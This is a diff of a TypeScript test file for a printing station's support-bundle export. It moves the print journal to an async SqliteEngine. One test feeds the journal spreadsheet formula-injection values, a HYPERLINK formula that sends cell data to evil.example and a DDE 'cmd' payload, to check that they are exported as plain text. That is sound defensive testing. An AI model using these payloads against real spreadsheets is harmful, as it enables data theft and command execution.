@@ -7,6 +7,7 @@ import { createLogger } from '../../../src/main/logging/logger';
 import { createRedactor } from '../../../src/main/logging/redaction';
 import { createRotatingFileSink } from '../../../src/main/logging/rotating-file-sink';
 import { emptyRunOptions, PrintJournal } from '../../../src/main/printing/journal/print-journal';
+import { SqliteEngine } from '../../../src/main/store/engine/sqlite-engine';
 import { openDatabase } from '../../../src/main/store/database';
 import { journalPart, logsPart, settingsPart, versionsPart } from '../../../src/main/support/bundle-parts';
 import { printJournalExport } from '../../../src/main/support/journal-export';
@@ -117,17 +118,17 @@ describe('the support bundle', () => {
     const folder = tempFolder();
     const db = openDatabase(join(folder, 'station.db'));
     let now = new Date('2026-03-01T06:00:00Z');
-    const journal = new PrintJournal(db, () => now);
+    const journal = new PrintJournal(new SqliteEngine(db, false), () => now);
     const options = emptyRunOptions();
     const label = (orderId: string) => ({ orderId, bundleId: null, bundlePosition: null, bundleCount: null, format: 'zpl' as const });
-    journal.createRun({ environment: 'live', kind: 'single', printerId: 'zebra-1', operator: 'ana', options, labels: [label('ORD-DAY-BEFORE')] });
+    await journal.createRun({ environment: 'live', kind: 'single', printerId: 'zebra-1', operator: 'ana', options, labels: [label('ORD-DAY-BEFORE')] });
     now = new Date('2026-03-02T07:00:00Z');
-    const late = journal.createRun({ environment: 'live', kind: 'single', printerId: 'zebra-1', operator: 'ana', options, labels: [label('ORD-LIVE')] });
-    journal.markSent(late.entries[0]?.id ?? -1);
-    journal.markPrinted([late.entries[0]?.id ?? -1]);
+    const late = await journal.createRun({ environment: 'live', kind: 'single', printerId: 'zebra-1', operator: 'ana', options, labels: [label('ORD-LIVE')] });
+    await journal.markSent(late.entries[0]?.id ?? -1);
+    await journal.markPrinted([late.entries[0]?.id ?? -1]);
     now = new Date('2026-03-02T06:00:00Z');
-    const earlier = journal.createRun({ environment: 'test', kind: 'single', printerId: 'zebra-2', operator: 'bo', options, labels: [label('ORD-TEST')] });
-    journal.markFailed(earlier.entries[0]?.id ?? -1, 'paper out, "head" open');
+    const earlier = await journal.createRun({ environment: 'test', kind: 'single', printerId: 'zebra-2', operator: 'bo', options, labels: [label('ORD-TEST')] });
+    await journal.markFailed(earlier.entries[0]?.id ?? -1, 'paper out, "head" open');
 
     const file = join(folder, 'bundle.zip');
     const clock = () => new Date('2026-03-02T08:15:00Z');
@@ -147,14 +148,14 @@ describe('the support bundle', () => {
   it('writes journal cells that a spreadsheet would run as formulas as plain text', async () => {
     const folder = tempFolder();
     const db = openDatabase(join(folder, 'station.db'));
-    const journal = new PrintJournal(db, () => new Date('2026-03-02T07:00:00Z'));
+    const journal = new PrintJournal(new SqliteEngine(db, false), () => new Date('2026-03-02T07:00:00Z'));
     const label = (orderId: string) => ({ orderId, bundleId: null, bundlePosition: null, bundleCount: null, format: 'zpl' as const });
     const hostile = {
       operator: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
       reasons: ["+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'],
     };
-    const run = journal.createRun({ environment: 'live', kind: 'single', printerId: 'zebra-1', operator: hostile.operator, options: emptyRunOptions(), labels: hostile.reasons.map((_, index) => label(`ORD-${index}`)) });
-    hostile.reasons.forEach((reason, index) => journal.markFailed(run.entries[index]?.id ?? -1, reason));
+    const run = await journal.createRun({ environment: 'live', kind: 'single', printerId: 'zebra-1', operator: hostile.operator, options: emptyRunOptions(), labels: hostile.reasons.map((_, index) => label(`ORD-${index}`)) });
+    for (const [index, reason] of hostile.reasons.entries()) await journal.markFailed(run.entries[index]?.id ?? -1, reason);
 
     const file = join(folder, 'bundle.zip');
     const clock = () => new Date('2026-03-02T08:15:00Z');
